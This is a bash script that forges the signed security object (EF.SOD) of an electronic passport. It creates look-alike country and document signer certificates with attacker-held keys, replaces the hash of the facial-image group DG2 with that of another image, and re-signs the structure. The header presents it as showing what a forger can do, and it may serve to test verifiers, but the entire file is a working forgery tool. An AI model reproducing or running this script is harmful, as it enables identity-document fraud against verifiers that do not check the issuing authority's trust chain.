#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# rogue_issuer.sh CSCA.cer EF.SOD DG2 OUT: what a forger with good tools can do without the issuer's keys. Makes a
# country signer and a document signer of his own that copy the genuine ones' names, key identifiers and extensions, and
# signs EF.SOD anew with the hash of another DG2. Writes the forged EF.SOD to OUT.
set -euo pipefail
csca=$1 sod=$2 dg2=$3 out=$4
work=$(mktemp -d)
trap 'rm -rf "$work"' EXIT

quietly() { # COMMAND...: its messages only if it fails
    "$@" 2> "$work/log" || {
        cat "$work/log" >&2
        exit 1
    }
}

new_key() { # FILE: P-256, its parameters written out as ICAO asks
    openssl ecparam -name prime256v1 -param_enc explicit -genkey -noout -out "$1"
}

# What a verifier could look up is the same; the keys are his.
copy_signers() {
    new_key "$work/csca.key"
    quietly openssl x509 -inform der -in "$csca" -key "$work/csca.key" -preserve_dates -out "$work/csca.pem"
    new_key "$work/signer.key"
    quietly openssl x509 -x509toreq -copy_extensions copyall -in "$work/genuine.pem" -key "$work/signer.key" -out "$work/request.pem"
    quietly openssl x509 -req -copy_extensions copyall -in "$work/request.pem" -days 7300 -CA "$work/csca.pem" -CAkey "$work/csca.key" -out "$work/signer.pem"
}

# The signed list of hashes; that of DG2 stands second.
exchange_hash() {
    local genuine forged
    genuine=$(openssl asn1parse -inform der -in "$work/hashes" | sed -n 's/.*HEX DUMP\]://p' | sed -n 2p)
    forged=$(openssl dgst -sha256 -r "$dg2" | cut -c1-64)
    perl -0777 -pe "s/\Q\${\pack 'H*', '$genuine'}\E/pack 'H*', '$forged'/e" "$work/hashes" > "$work/forged"
}

# EF.SOD is a CMS message in the template 77.
openssl asn1parse -inform der -in "$sod" -strparse 4 -noout -out "$work/genuine.p7"
quietly openssl cms -verify -noverify -nosigs -inform der -in "$work/genuine.p7" -certsout "$work/genuine.pem" -out "$work/hashes"
copy_signers
exchange_hash
openssl cms -sign -binary -nodetach -nosmimecap -md sha256 -econtent_type 2.23.136.1.1.1 -in "$work/forged" \
    -signer "$work/signer.pem" -inkey "$work/signer.key" -outform der -out "$work/forged.p7"
perl -e 'print pack "CCn", 0x77, 0x82, $ARGV[0]' "$(stat -c %s "$work/forged.p7")" > "$out"
cat "$work/forged.p7" >> "$out"
